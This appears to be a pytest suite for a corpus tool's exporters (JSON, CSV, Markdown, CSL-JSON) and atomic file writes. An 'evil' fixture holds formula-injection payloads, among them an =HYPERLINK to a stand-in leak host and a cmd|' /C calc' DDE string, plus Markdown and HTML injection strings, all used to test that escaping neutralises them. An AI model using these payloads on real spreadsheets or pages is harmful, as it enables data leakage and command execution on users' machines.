"""Exports: json, csv, md and csl-json on the shipped dataset and the fixtures (through the
command line: tests/cli/test_export.py)."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import jsonschema
import pytest
from markdown_it import MarkdownIt

from kzt_tui.core.atomic import OverwriteError, write_atomic, write_new
from kzt_tui.core.corpus import SECTIONS, Corpus
from kzt_tui.core.export import (
    CSL_TYPES,
    JSON_FORMAT,
    ExportError,
    export_records,
    export_text,
    md_escape,
    safe_cell,
)
from kzt_tui.core.loading import load
from kzt_tui.core.model import all_citations
from kzt_tui.core.paths import shipped_data
from tests.helpers import MINI

CSL_SCHEMA = Path("/work/shared/schemas/csl-data.json")
FORMATS = ("json", "csv", "md", "csl-json")


@pytest.fixture(scope="module")
def shipped() -> Corpus:
    return Corpus(load(shipped_data()))


@pytest.fixture(scope="module")
def mini_corpus() -> Corpus:
    return Corpus(load(MINI / "curated.yaml"))


@pytest.fixture(params=["shipped", "mini"])
def corpus(request: pytest.FixtureRequest, shipped: Corpus, mini_corpus: Corpus) -> Corpus:
    return shipped if request.param == "shipped" else mini_corpus


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


EVIL_TEXT = (
    '=HYPERLINK("http://evil.example/?leak","Click")\n'
    "@SUM(1+1)*cmd|' /C calc'!A0\n"
    "Нажмите [здесь](javascript:alert(1)) <img src=x onerror=alert(1)> **жирно**\n"
    "# не заголовок\n"
)


@pytest.fixture
def evil(write_data) -> Corpus:
    """A dataset whose strings and quotes try formula injection and Markdown injection."""
    path = write_data("""\
        schema_version: 1
        documents:
          - id: doc-evil
            file: texts/evil.txt
            date: "2025-11"
            date_note: "-1+1 test"
            title: {en: "=1+2", ru: "<b>Заголовок</b>"}
            outlet: {name: "@outlet", evidence: "+evidence"}
            author: "Иван Иванов"
            kind: social_post
            reliability: "\\ttab first"
        people:
          - id: per-evil
            name: {en: "[Mallory](http://evil.example)", ru: "<script>alert(1)</script>"}
            role: "-role"
            country: null
            notes: "=cmd|' /C calc'!A0"
            citations:
              - doc: doc-evil
                quote: '=HYPERLINK("http://evil.example/?leak","Click")'
                translation: "@translation"
              - doc: doc-evil
                quote: "Нажмите [здесь](javascript:alert(1)) <img src=x onerror=alert(1)> **жирно**"
                translation: "Click [here](javascript:alert(1)) <img src=x onerror=alert(1)>"
              - doc: doc-evil
                quote: "# не заголовок"
                translation: "- not a list"
        """)
    (path.parent / "texts" / "evil.txt").write_text(EVIL_TEXT, encoding="utf-8")
    return Corpus(load(path))


# --- JSON -----------------------------------------------------------------------------------


def test_json_is_the_whole_model_with_resolved_spans(corpus: Corpus) -> None:
    data = json.loads(export_text(corpus, "json"))
    assert (data["format"], data["version"]) == (JSON_FORMAT, 1)
    assert list(data)[:5] == ["format", "version", "generator", "dataset", "title"]
    assert list(data)[5:] == [*SECTIONS, "dismissals"]
    dismissed = data["dismissals"]
    assert len(dismissed) == len(corpus.dataset.dismissals)
    for entry, dismissal in zip(dismissed, corpus.dataset.dismissals, strict=True):
        assert (entry["reason"], entry["doc"], entry["quote"]) == (
            dismissal.reason, dismissal.citation.doc, dismissal.citation.quote)
        text, span = corpus.text(entry["doc"]), entry["span"]
        assert text[span["start"]:span["end"]] == entry["quote"]
    n_cites = 0
    for name in SECTIONS:
        assert [r["id"] for r in data[name]] == [r.id for r in corpus.section(name)]
        for record in data[name]:
            cites = record.get("citations", []) + [
                c for side in record.get("sides", []) for c in side["citations"]
            ]
            for cite in cites:
                n_cites += 1
                text = corpus.text(cite["doc"])
                span = cite["span"]
                assert text[span["start"]:span["end"]] == cite["quote"]
                assert span["line_start"] == text.count("\n", 0, span["start"]) + 1
                assert span["line_end"] == text.count("\n", 0, span["end"]) + 1
                assert cite["file"] == corpus.document(cite["doc"]).file
    expected = sum(len(all_citations(r)) for r in corpus.by_id.values())
    assert n_cites == expected > 0


def test_json_keeps_cyrillic_and_a_stable_key_order(shipped: Corpus) -> None:
    text = export_text(shipped, "json", "agreements")
    assert text == export_text(shipped, "json", "agreements")
    assert "Казахстан" in text and "\\u04" not in text
    data = json.loads(text)
    assert set(data) == {"format", "version", "generator", "dataset", "title", "agreements"}
    assert data["dataset"] == "data/curated.yaml"  # no machine-specific absolute path
    first = data["agreements"][0]
    assert list(first)[:4] == ["id", "citations", "notes", "title"]
    assert list(first["citations"][0]) == [
        "doc", "file", "quote", "translation", "occurrence", "note", "span"]
    assert list(first["citations"][0]["span"]) == ["start", "end", "line_start", "line_end"]


def test_json_uses_the_curated_field_names_and_resolves_occurrences(mini_corpus: Corpus) -> None:
    data = json.loads(export_text(mini_corpus, "json"))
    fig = data["figures"][0]
    assert fig["label"] == {"en": "Trade", "ru": "Товарооборот"}
    assert "label_text" not in fig and "path" not in fig
    cite = fig["citations"][0]
    text = mini_corpus.text("doc-a")
    second = text.index(cite["quote"], text.index(cite["quote"]) + 1)
    assert (cite["occurrence"], cite["span"]["start"], cite["span"]["line_start"]) == (2, second, 3)


# --- CSV ------------------------------------------------------------------------------------


def test_csv_has_a_row_per_record_with_a_section_column(corpus: Corpus) -> None:
    rows = read_csv(export_text(corpus, "csv"))
    assert [(r["section"], r["id"]) for r in rows] == [
        (name, rec.id) for name in SECTIONS for rec in corpus.section(name)]
    for row in rows:
        record = corpus.get(row["id"])
        assert record is not None
        cites = all_citations(record)
        assert row["citations"] == str(len(cites))
        assert row["quotes"] == "; ".join(safe_cell(c.quote) for c in cites)  # type: ignore[misc]
        refs = row["references"].split("; ") if cites else []
        assert len(refs) == len(cites)
        for cite, ref in zip(cites, refs, strict=True):
            doc = corpus.document(cite.doc)
            assert cite.span is not None
            assert ref.startswith(f"{cite.doc} {doc.file}:{cite.span.line_start}")
            text = corpus.text(cite.doc)
            assert text[cite.span.start:cite.span.end] == cite.quote


def test_csv_section_only_has_that_sections_columns(shipped: Corpus) -> None:
    rows = read_csv(export_text(shipped, "csv", "figures"))
    assert {r["section"] for r in rows} == {"figures"}
    assert len(rows) == len(shipped.section("figures"))
    assert "value_text" in rows[0] and "parties" not in rows[0]
    fig = shipped.section("figures")[0]
    assert float(rows[0]["value"]) == fig.value  # type: ignore[union-attr]
    assert rows[0]["countries"] == "; ".join(fig.countries)  # type: ignore[union-attr]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_neutralises_formula_starts(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("lead", [" ", "  ", "\u00a0"])
def test_safe_cell_sees_a_formula_behind_spaces(lead: str) -> None:
    """Some spreadsheets trim a cell before reading it as a formula."""
    assert safe_cell(f"{lead}=HYPERLINK(1)") == f"'{lead}=HYPERLINK(1)"


def test_safe_cell_leaves_ordinary_text_and_numbers() -> None:
    assert safe_cell("Актау – Туркменбаши") == "Актау – Туркменбаши"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(-3.5) == -3.5
    assert safe_cell(None) == ""


def test_csv_neutralises_formula_injection_from_the_data(evil: Corpus) -> None:
    rows = read_csv(export_text(evil, "csv"))
    doc, person = rows
    assert doc["label_en"] == "'=1+2"
    assert doc["outlet"] == "'@outlet" and doc["outlet_evidence"] == "'+evidence"
    assert doc["date_note"] == "'-1+1 test"
    assert doc["reliability"] == "'\ttab first"
    assert person["label_en"] == "[Mallory](http://evil.example)"
    assert person["role"] == "'-role"
    assert person["notes"] == "'=cmd|' /C calc'!A0"
    assert person["quotes"].startswith("'=HYPERLINK(")
    assert person["translations"].startswith("'@translation")
    # no cell in the whole file starts a formula
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# --- Markdown -------------------------------------------------------------------------------


def test_markdown_has_a_heading_per_section_and_every_passage(corpus: Corpus) -> None:
    md = export_text(corpus, "md")
    with_ids = export_text(corpus, "md", with_ids=True)
    for name in SECTIONS:
        assert f"\n## {name.capitalize()} ({len(corpus.section(name))})\n" in md
    for record in corpus.by_id.values():
        assert f"### {md_escape(record.label('en'))}\n" in md
        assert f"`{record.id}`" not in md
        assert f"### {md_escape(record.label('en'))}\n\n`{record.id}`\n" in with_ids
        for cite in all_citations(record):
            text = corpus.text(cite.doc)
            assert cite.span is not None
            assert text[cite.span.start:cite.span.end] == cite.quote
            quoted = "\n".join(f"> {md_escape(line)}" for line in cite.quote.splitlines())
            assert f"{quoted}\n>\n> *English:* {md_escape(cite.translation)} [^" in md
            doc = corpus.document(cite.doc)
            assert f"(line {cite.span.line_start})" in md or "(lines " in md
            assert doc.file not in md
            assert md_escape(doc.file) in with_ids


def test_markdown_rendered_text_keeps_quotes_verbatim(mini_corpus: Corpus) -> None:
    html = MarkdownIt("commonmark").render(export_text(mini_corpus, "md"))
    assert "<blockquote>\n<p>Первая строка [bold]текста[/].</p>" in html
    assert ("[^1]: «Текст А» (Text A), outlet not named, 25 November 2025, paragraph 1 "
            "(line 1).") in html


def test_markdown_escaping_stops_links_html_and_headings(evil: Corpus) -> None:
    md = export_text(evil, "md")
    html = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(md)
    assert "<a " not in html and "<img" not in html and "<script" not in html
    assert "<strong>жирно" not in html and "<b>" not in html
    assert html.count("<h1>") == 1  # only ours: "# не заголовок" stays text
    assert "<h3>[Mallory](http://evil.example)</h3>" in html
    assert ("Нажмите [здесь](javascript:alert(1)) &lt;img src=x onerror=alert(1)&gt; "
            "**жирно**") in html
    assert "# не заголовок" in html and "- not a list" in html


def test_md_escape() -> None:
    assert md_escape("[a](b) <i>x</i> *y* `z`") == r"\[a\](b) \<i\>x\</i\> \*y\* \`z\`"
    assert md_escape("- item") == r"\- item"
    assert md_escape("1. first") == r"1\. first"
    assert md_escape("a\n  b") == "a b"


@pytest.mark.parametrize(("text", "escaped"), [
    ("see https://evil.example/login", r"see https\://evil.example/login"),
    ("FTP://x", r"FTP\://x"),
    ("www.evil.example", r"www\.evil.example"),
    ("at WWW.x", r"at WWW\.x"),
    ("write to a@b.example", r"write to a\@b.example"),
])
def test_md_escape_breaks_what_gfm_would_autolink(text: str, escaped: str) -> None:
    assert md_escape(text) == escaped


def test_md_escape_leaves_colons_dots_and_at_signs_that_link_nothing() -> None:
    assert md_escape("ratio 3:2 at 10:00, e.g. a www-site; info@ @home") == (
        "ratio 3:2 at 10:00, e.g. a www-site; info@ @home")


# --- CSL-JSON -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def csl_validator() -> jsonschema.protocols.Validator:
    schema = json.loads(CSL_SCHEMA.read_text(encoding="utf-8"))
    cls = jsonschema.validators.validator_for(schema)
    cls.check_schema(schema)
    return cls(schema)


def test_csl_json_is_valid_and_describes_each_document(
        corpus: Corpus, csl_validator: jsonschema.protocols.Validator) -> None:
    items = json.loads(export_text(corpus, "csl-json"))
    csl_validator.validate(items)
    docs = corpus.section("documents")
    assert [i["id"] for i in items] == [d.id for d in docs]
    for item, doc in zip(items, docs, strict=True):
        assert item["type"] == CSL_TYPES[doc.kind]  # type: ignore[union-attr]
        assert item["language"] == "ru"
        # the English title for the reader; never the internal path of the text
        assert item["note"].startswith(f"English title: {doc.title.en}")  # type: ignore[union-attr]
        assert doc.file not in json.dumps(item)  # type: ignore[union-attr]


def test_csl_json_fields_of_the_shipped_documents(shipped: Corpus) -> None:
    items = {i["id"]: i for i in json.loads(export_text(shipped, "csl-json"))}
    assert items["doc-002-trade-target"]["container-title"] == "KAZAKHSTAN TODAY"
    assert items["doc-002-trade-target"]["issued"] == {"date-parts": [[2025, 11, 26]]}
    assert items["doc-002-trade-target"]["type"] == "article-newspaper"
    assert items["doc-003-dushanbe-summit"]["author"] == [
        {"given": "Екатерина", "family": "Николаева"}]
    assert "container-title" not in items["doc-000-state-visit"]  # the text names no outlet
    post = items["doc-004-telegram-post"]
    assert post["type"] == "post" and "issued" not in post and "author" not in post


def test_csl_json_of_a_partial_date_and_invalid_data_is_caught(
        evil: Corpus, csl_validator: jsonschema.protocols.Validator) -> None:
    items = json.loads(export_text(evil, "csl-json"))
    csl_validator.validate(items)
    assert items[0]["issued"] == {"date-parts": [[2025, 11]]}
    assert items[0]["author"] == [{"given": "Иван", "family": "Иванов"}]
    items[0]["issued"] = {"date-parts": [[2025, 11, 26, 1]]}
    with pytest.raises(jsonschema.ValidationError):
        csl_validator.validate(items)  # the validator would notice a bad export


def test_csl_json_refuses_a_section(shipped: Corpus) -> None:
    with pytest.raises(ExportError, match="does not apply to csl-json"):
        export_text(shipped, "csl-json", "agreements")


def test_export_records_for_a_list_or_an_item(shipped: Corpus) -> None:
    agr = shipped.section("agreements")[0]
    md = export_records(shipped, "md", [agr], agr.label("en"))
    assert "## Agreements (1)" in md and "## Figures" not in md
    items = json.loads(export_records(shipped, "csl-json", [agr], "x"))
    assert [i["id"] for i in items] == shipped.documents_of(agr)


def test_unknown_section_and_format_name_the_valid_ones(shipped: Corpus) -> None:
    with pytest.raises(ExportError, match="valid sections: documents, agreements"):
        export_text(shipped, "json", "treaties")
    with pytest.raises(ExportError, match="valid formats: json, csv, md, csl-json"):
        export_text(shipped, "xml")


# --- atomic writes --------------------------------------------------------------------------


def test_write_new_refuses_to_overwrite_and_leaves_no_temp_files(tmp_path: Path) -> None:
    target = tmp_path / "out.md"
    write_new(target, "первый\n")
    with pytest.raises(OverwriteError, match="already exists"):
        write_new(target, "второй\n")
    assert target.read_text(encoding="utf-8") == "первый\n"
    write_new(target, "второй\n", force=True)
    assert target.read_text(encoding="utf-8") == "второй\n"
    assert os.listdir(tmp_path) == ["out.md"]


def test_write_atomic_cleans_up_when_it_fails(tmp_path: Path) -> None:
    target = tmp_path / "dir"
    target.mkdir()
    with pytest.raises(OSError):
        write_atomic(target, "x")  # cannot replace a directory with a file
    assert sorted(os.listdir(tmp_path)) == ["dir"]
    assert os.listdir(target) == []


def test_write_new_keeps_line_endings_and_the_umask_mode(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    write_new(target, "a,b\r\n1,2\r\n")
    assert target.read_bytes() == b"a,b\r\n1,2\r\n"
    umask = os.umask(0)
    os.umask(umask)
    assert target.stat().st_mode & 0o777 == 0o666 & ~umask


def test_safe_cell_neutralises_a_leading_nul() -> None:
    """OWASP ASVS 1.2.10 names a leading NUL beside = + - @ and tab: a reader that stops a
    string at NUL, or drops it, sees the formula after it. YAML "\\0" puts one in a title."""
    assert safe_cell("\0=HYPERLINK(1)") == "'\0=HYPERLINK(1)"
